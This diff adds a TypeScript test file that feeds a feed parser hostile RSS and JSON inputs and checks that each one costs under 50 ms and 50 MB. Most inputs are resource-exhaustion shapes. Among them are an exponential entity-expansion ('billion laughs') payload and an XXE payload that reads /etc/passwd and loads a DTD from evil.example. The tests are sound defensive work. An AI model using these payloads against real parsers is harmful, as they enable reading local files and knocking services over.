@@ -1,0 +1,122 @@
+import assert from 'node:assert/strict';
+import { Buffer } from 'node:buffer';
+import { test } from 'node:test';
+import { NotAFeed, parseFeedDocument } from './index.ts';
+import { LIMITS } from './limits.ts';
+
+/**
+ * PARSE-3: each of these costs less than 50 ms and 50 MB. Time is the processor's, and the best of a few runs
+ * counts: the tests of other files run at the same time, and the first runs are the compiler's.
+ */
+const MOST_MS = 50;
+const MOST_MEGABYTES = 50;
+const RUNS = 8;
+const LARGEST = LIMITS.bytes - 4_096;
+
+const HOSTILE: Readonly<Record<string, () => string>> = {
+  'elements that never end': () => feed(filled('<a>')),
+  '100,000 levels that end': () => feed(`<item>${'<a>'.repeat(100_000)}${'</a>'.repeat(100_000)}</item>`),
+  'titles inside of titles': () => feed(filled('<title>')),
+  'items inside of items': () => feed(filled('<item><title><title>')),
+  'markup inside of a text': () => feed(`<item><description>${filled('<div>')}`),
+  '200,000 attributes': () =>
+    `<rss ${numbered(200_000, n => `a${n}="x"`)}><channel><title>t</title></channel></rss>`,
+  'attributes without an end': () => feed(filled('<a b="')),
+  '200,000 items': () => feed('<item><title>x</title><link>/a</link></item>'.repeat(180_000)),
+  'empty items': () => feed(filled('<item/>')),
+  'entities that multiply': () =>
+    `<!DOCTYPE l [<!ENTITY a0 "ha">${numbered(20, n => `<!ENTITY a${n + 1} "${`&a${n};`.repeat(10)}">`)}]>${feed('<item><title>&a20;</title></item>')}`,
+  'one long entity, often used': () =>
+    `<!DOCTYPE l [<!ENTITY a "${'a'.repeat(2_000_000)}">]>${feed(`<item><title>${'&a;'.repeat(1_000_000)}</title></item>`)}`,
+  'entities from elsewhere': () =>
+    `<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd"><!ENTITY % p SYSTEM "http://evil.example/x.dtd">%p;]>${feed('<item><title>&x;</title></item>')}`,
+  'numeric references': () => feed(`<item><description>${filled('&#65;')}</description></item>`),
+  'named references': () => feed(`<item><description>${filled('&eacute;')}</description></item>`),
+  'bare ampersands': () => feed(`<item><description>${filled('&')}</description></item>`),
+  'sections that never end': () => feed(`<item><description>${filled('<![CDATA[')}`),
+  'empty sections': () => feed(`<item><description>${filled('<![CDATA[]]>')}`),
+  'comments that never end': () => feed(filled('<!--')),
+  'processing instructions': () => feed(filled('<?a ?>')),
+  'bare angle brackets': () => feed(`<item><title>${filled('<')}`),
+  'closing tags for nothing': () => feed(filled('</a>')),
+  'document types': () => filled('<!DOCTYPE ['),
+  blanks: () => filled(' '),
+  'tags without an end in a text': () =>
+    feed(`<item><description><![CDATA[${filled('<a href=x ')}]]></description></item>`),
+  'relative addresses in a text': () =>
+    feed(`<item><description><![CDATA[${filled('<a href="x">')}]]></description></item>`),
+  'bases inside of bases': () =>
+    feed(`<item><description><![CDATA[${filled('<a xml:base="b">')}]]></description></item>`),
+  'a source set without an end': () =>
+    feed(`<item><description><![CDATA[<img srcset="${filled('a, ')}">]]></description></item>`),
+  'scripts in a title': () => feed(`<item><title><![CDATA[${filled('<script ')}]]></title></item>`),
+  'categories of one item': () => feed(`<item>${filled('<category>a</category>')}</item>`),
+  'dates that are none': () => feed(`<item>${filled('<pubDate>x 1 2 3 4 5</pubDate>')}</item>`),
+  'namespaces inside of namespaces': () =>
+    feed(`<item>${numbered(200_000, n => `<a xmlns:p${n}="http://x/${n}">`)}</item>`),
+  'JSON that is deep': () => `{"version":"https://jsonfeed.org/version/1","items":${'['.repeat(3_000_000)}`,
+  'JSON with many items': () =>
+    `{"version":"https://jsonfeed.org/version/1","title":"x","items":[${'{"id":1},'.repeat(300_000)}{}]}`,
+};
+
+for (const [name, make] of Object.entries(HOSTILE)) {
+  test(`PARSE-3: ${name} cost less than ${MOST_MS} ms and ${MOST_MEGABYTES} MB`, () => {
+    const bytes = new Uint8Array(Buffer.from(make()));
+    const { ms, megabytes } = cheapest(() => parseOrRefuse(bytes));
+    assert.ok(ms < MOST_MS, `${ms.toFixed(1)} ms`);
+    assert.ok(megabytes < MOST_MEGABYTES, `${megabytes.toFixed(1)} MB`);
+  });
+}
+
+test('PARSE-3: a document beyond the limit is refused before it is looked at', () => {
+  const bytes = new Uint8Array(100 * 1_024 * 1_024).fill(0x3c);
+  const { ms } = cheapest(() => parseOrRefuse(bytes));
+  assert.throws(() => parseFeedDocument(bytes), { name: 'NotAFeed', reason: 'too-large' });
+  assert.ok(ms < 5, `${ms.toFixed(1)} ms`);
+});
+
+test('PARSE-3: nothing that a document declares is expanded or fetched', () => {
+  const laughs = HOSTILE['entities that multiply']?.() ?? '';
+  assert.equal(parseFeedDocument(new Uint8Array(Buffer.from(laughs))).items[0]?.title, '&a20;');
+  const external = HOSTILE['entities from elsewhere']?.() ?? '';
+  assert.equal(parseFeedDocument(new Uint8Array(Buffer.from(external))).items[0]?.title, '&x;');
+});
+
+function parseOrRefuse(bytes: Uint8Array): void {
+  try {
+    parseFeedDocument(bytes, { url: 'http://h.example/' });
+  } catch (error) {
+    if (!(error instanceof NotAFeed)) throw error;
+  }
+}
+
+function cheapest(work: () => void): { ms: number; megabytes: number } {
+  let ms = Number.POSITIVE_INFINITY;
+  let megabytes = Number.POSITIVE_INFINITY;
+  for (let run = 0; run < RUNS && (run < 2 || ms >= MOST_MS); run++) {
+    const memory = process.memoryUsage();
+    const before = process.cpuUsage();
+    work();
+    const { user, system } = process.cpuUsage(before);
+    const after = process.memoryUsage();
+    ms = Math.min(ms, (user + system) / 1_000);
+    megabytes = Math.min(
+      megabytes,
+      (after.heapUsed + after.external - memory.heapUsed - memory.external) / 1e6,
+    );
+  }
+  return { ms, megabytes };
+}
+
+function feed(inside: string): string {
+  return `<rss version="2.0"><channel><title>t</title>${inside}</channel></rss>`;
+}
+
+/** As often as a document of the largest size that is read holds it. */
+function filled(unit: string): string {
+  return unit.repeat(Math.floor(LARGEST / unit.length));
+}
+
+function numbered(count: number, make: (number: number) => string): string {
+  return Array.from({ length: count }, (_, number) => make(number)).join(' ');
+}
